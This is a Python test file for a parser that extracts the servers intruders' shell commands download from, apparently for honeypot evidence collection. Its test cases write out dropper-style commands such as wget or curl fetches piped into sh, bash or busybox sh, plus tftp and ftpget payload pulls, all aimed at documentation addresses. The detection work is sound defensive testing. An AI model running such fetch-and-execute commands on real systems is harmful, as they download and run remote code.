"""What intruders' commands fetch."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hinomi.collect.evidence.fetches import MOST_FETCHES, Fetch, find_fetches, find_url


@pytest.mark.parametrize(
    ("command", "fetches"),
    [
        ("wget http://192.0.2.1/a.sh", {("http", "192.0.2.1", "")}),
        ("cd /tmp; /bin/busybox wget http://192.0.2.1:81/a -O -", {("http", "192.0.2.1", "81")}),
        ("curl -s 'https://[2001:db8::1]:8443/a'|sh", {("https", "[2001:db8::1]", "8443")}),
        ("curl -O ftp://user:pw@192.0.2.1/a", {("ftp", "192.0.2.1", "")}),
        ("curl 192.0.2.1:8080/a", {("http", "192.0.2.1", "8080")}),
        ("wget 192.0.2.1/a", {("http", "192.0.2.1", "")}),
        ("tftp -g -r a.sh 192.0.2.1", {("tftp", "192.0.2.1", "")}),
        ("busybox tftp -r a -g 192.0.2.1 6969", {("tftp", "192.0.2.1", "6969")}),
        ("tftp 192.0.2.1 -c get a", {("tftp", "192.0.2.1", "")}),
        ("ftpget -v -u x -p y -P 2121 192.0.2.1 a b", {("ftp", "192.0.2.1", "2121")}),
        (
            "wget http://192.0.2.1/a || curl http://192.0.2.2/b; tftp -g 192.0.2.3 -r c",
            {("http", "192.0.2.1", ""), ("http", "192.0.2.2", ""), ("tftp", "192.0.2.3", "")},
        ),
        ("wget http://host.example/a", {("http", "host.example", "")}),
        ("echo http://192.0.2.1/a", set()),
        ("ping 192.0.2.1; uname -a", set()),
        ("tftp; wget; /bin/busybox ABCDE", set()),
        ("wgetter http://192.0.2.1/a", set()),
    ],
)
def test_servers_are_found_in_commands(command: str, fetches: set[tuple[str, str, str]]) -> None:
    """However the shell is used; without a tool that fetches there is none."""
    assert {(each.scheme, each.host, each.port) for each in find_fetches(command)} == fetches


@pytest.mark.parametrize(
    ("command", "names_file"),
    [
        ("wget http://192.0.2.1/a", True),
        ("wget http://192.0.2.1/", False),
        ("curl http://192.0.2.1", False),
        ("curl http://192.0.2.1|bash", True),
        ("curl http://192.0.2.1/ | /bin/busybox sh", True),
    ],
)
def test_a_root_is_no_file_unless_it_goes_to_a_shell(command: str, *, names_file: bool) -> None:
    """Else it is a test of the connection as likely."""
    assert [each.names_file for each in find_fetches(command)] == [names_file]


def test_a_url_is_read_by_itself() -> None:
    """If it is of a scheme that fetches."""
    assert find_url("HTTP://192.0.2.1:81/a") == Fetch("http", "192.0.2.1", "81", names_file=True)
    assert find_url("magnet:?x") is None


def test_a_long_command_gives_a_bounded_number() -> None:
    """Intruders write what they like."""
    command = "wget " + " ".join(f"http://192.0.2.1/{i}" for i in range(10_000))

    assert len(list(find_fetches(command))) == MOST_FETCHES
    bare = ";".join("tftp 192.0.2.1" for _ in range(10_000))
    assert len(list(find_fetches(bare))) == MOST_FETCHES


@given(st.text(alphabet="wget ftp:/.[]1@;|&'\"()<>-\\\n", max_size=400))
def test_no_command_breaks_the_search(text: str) -> None:
    """Nor is a blank host ever found."""
    assert all(each.host for each in find_fetches("wget " + text))
